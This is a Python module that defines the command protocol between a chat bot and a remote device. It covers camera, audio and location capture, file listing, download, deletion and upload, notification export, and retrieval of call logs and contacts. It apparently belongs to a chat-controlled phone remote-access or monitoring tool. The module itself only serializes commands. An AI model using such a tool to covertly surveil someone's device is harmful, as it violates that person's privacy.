"""Command variants relayed from the chat to the device.

Each variant carries the chat id and bot scope needed to route replies. The
push wire form is a flat ``dict[str, str]``; :func:`to_payload` and
:func:`from_payload` are the only places that know its layout.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any, Mapping, Optional, Union

CAPTURE_PHOTO = "photo"
CAPTURE_VIDEO = "video"
CAPTURE_AUDIO = "audio"
CAPTURE_LOCATION = "location"
CAPTURE_RING = "ring"
CAPTURE_VIBRATE = "vibrate"
CAPTURE_KINDS = (
    CAPTURE_PHOTO,
    CAPTURE_VIDEO,
    CAPTURE_AUDIO,
    CAPTURE_LOCATION,
    CAPTURE_RING,
    CAPTURE_VIBRATE,
)

FILE_ACTIONS = ("file", "recv", "del")

SORT_KEYS = ("name", "size", "date", "type")
SORT_ORDERS = ("asc", "desc")
DEFAULT_SORT = "date"
DEFAULT_ORDER = "desc"

NOTI_ADD = "add"
NOTI_REMOVE = "remove"
NOTI_VIEW = "view"
NOTI_CLEAR = "clear"
NOTI_EXPORT = "export"

STAGE_MENU = "menu"
STAGE_PICK = "pick"
STAGE_NAV = "nav"

INFO_CALL_LOGS = "calllogs"
INFO_CONTACTS = "contacts"
INFO_KINDS = (INFO_CALL_LOGS, INFO_CONTACTS)

_STAGE_SUFFIX = {STAGE_MENU: "", STAGE_PICK: "pick", STAGE_NAV: "picknav"}
_NOTI_TAG_RE = re.compile(r"^noti(add|remove|clear|export)?(pick|picknav)?$")
_LEADING_INT_RE = re.compile(r"^\s*(\d+)")


@dataclass(frozen=True)
class CaptureCommand:
    chat_id: str
    scope: str
    kind: str
    camera: Optional[str] = None
    flash: Optional[bool] = None
    duration: Optional[int] = None
    quality: Optional[int] = None

    @property
    def type(self) -> str:
        return self.kind


@dataclass(frozen=True)
class ListCommand:
    chat_id: str
    scope: str
    path: str = ""
    sort: Optional[str] = None
    order: Optional[str] = None

    @property
    def type(self) -> str:
        return "list"


@dataclass(frozen=True)
class FileCommand:
    chat_id: str
    scope: str
    action: str
    file: str

    @property
    def type(self) -> str:
        return self.action


@dataclass(frozen=True)
class SendUploadCommand:
    """File uploaded in chat that the device should download to ``target_path``."""

    chat_id: str
    scope: str
    file_name: str
    target_path: str = ""
    file_url: Optional[str] = None
    file_id: Optional[str] = None

    @property
    def type(self) -> str:
        return "send"


@dataclass(frozen=True)
class SendNavigationCommand:
    chat_id: str
    scope: str
    callback_data: str

    @property
    def type(self) -> str:
        return "send"


@dataclass(frozen=True)
class NotificationCommand:
    chat_id: str
    scope: str
    action: str
    stage: str = STAGE_MENU
    pkg: Optional[str] = None
    page: Optional[int] = None

    @property
    def type(self) -> str:
        action = "" if self.action == NOTI_VIEW else self.action
        return f"noti{action}{_STAGE_SUFFIX[self.stage]}"


@dataclass(frozen=True)
class InfoCommand:
    chat_id: str
    scope: str
    kind: str

    @property
    def type(self) -> str:
        return self.kind


Command = Union[
    CaptureCommand,
    ListCommand,
    FileCommand,
    SendUploadCommand,
    SendNavigationCommand,
    NotificationCommand,
    InfoCommand,
]


def parse_page_index(raw: Any) -> int:
    """Leading digits of ``raw`` as a page index; anything else is page 0."""
    if isinstance(raw, bool):
        return 0
    if isinstance(raw, int):
        return max(raw, 0)
    if not isinstance(raw, str):
        return 0
    match = _LEADING_INT_RE.match(raw)
    return int(match.group(1)) if match else 0


def _bool_text(value: bool) -> str:
    return "true" if value else "false"


def to_payload(command: Command) -> dict[str, str]:
    """Flatten a command into the string-only push data map."""
    payload: dict[str, str] = {"type": command.type}
    if isinstance(command, CaptureCommand):
        if command.camera is not None:
            payload["camera"] = command.camera
        if command.flash is not None:
            payload["flash"] = _bool_text(command.flash)
        if command.duration is not None:
            payload["duration"] = str(command.duration)
        if command.quality is not None:
            payload["quality"] = str(command.quality)
    elif isinstance(command, ListCommand):
        if command.sort is not None:
            payload["sort"] = command.sort
        if command.order is not None:
            payload["order"] = command.order
        payload["path"] = command.path
    elif isinstance(command, FileCommand):
        payload["file"] = command.file
    elif isinstance(command, SendUploadCommand):
        payload["file_url"] = command.file_url or ""
        payload["file_name"] = command.file_name
        payload["target_path"] = command.target_path
    elif isinstance(command, SendNavigationCommand):
        payload["callback_data"] = command.callback_data
    elif isinstance(command, NotificationCommand):
        if command.stage == STAGE_PICK:
            payload["pkg"] = command.pkg or ""
        elif command.stage == STAGE_NAV:
            payload["page"] = str(command.page or 0)
    payload["chat_id"] = command.chat_id
    payload["bot_token"] = command.scope
    return payload


def _optional_int(raw: Any) -> Optional[int]:
    if raw is None or raw == "":
        return None
    try:
        return int(str(raw).strip())
    except ValueError:
        return None


def from_payload(payload: Mapping[str, Any]) -> Optional[Command]:
    """Rebuild a command from push data; ``None`` for unknown or partial data."""
    tag = payload.get("type")
    chat_id = payload.get("chat_id")
    scope = payload.get("bot_token")
    if not isinstance(tag, str) or not chat_id or not isinstance(scope, str):
        return None
    chat_id = str(chat_id)

    def text(name: str, default: str = "") -> str:
        value = payload.get(name)
        return str(value) if value is not None else default

    if tag in CAPTURE_KINDS:
        flash_raw = payload.get("flash")
        return CaptureCommand(
            chat_id=chat_id,
            scope=scope,
            kind=tag,
            camera=payload.get("camera"),
            flash=None if flash_raw is None else str(flash_raw).lower() == "true",
            duration=_optional_int(payload.get("duration")),
            quality=_optional_int(payload.get("quality")),
        )
    if tag == "list":
        return ListCommand(
            chat_id=chat_id,
            scope=scope,
            path=text("path"),
            sort=payload.get("sort"),
            order=payload.get("order"),
        )
    if tag in FILE_ACTIONS:
        return FileCommand(chat_id=chat_id, scope=scope, action=tag, file=text("file"))
    if tag == "send":
        if payload.get("callback_data"):
            return SendNavigationCommand(
                chat_id=chat_id, scope=scope, callback_data=text("callback_data")
            )
        return SendUploadCommand(
            chat_id=chat_id,
            scope=scope,
            file_name=text("file_name", "file"),
            target_path=text("target_path"),
            file_url=payload.get("file_url") or None,
        )
    if tag in INFO_KINDS:
        return InfoCommand(chat_id=chat_id, scope=scope, kind=tag)
    match = _NOTI_TAG_RE.match(tag)
    if match is None:
        return None
    action = match.group(1) or NOTI_VIEW
    suffix = match.group(2) or ""
    stage = {"": STAGE_MENU, "pick": STAGE_PICK, "picknav": STAGE_NAV}[suffix]
    return NotificationCommand(
        chat_id=chat_id,
        scope=scope,
        action=action,
        stage=stage,
        pkg=text("pkg") if stage == STAGE_PICK else None,
        page=parse_page_index(payload.get("page")) if stage == STAGE_NAV else None,
    )
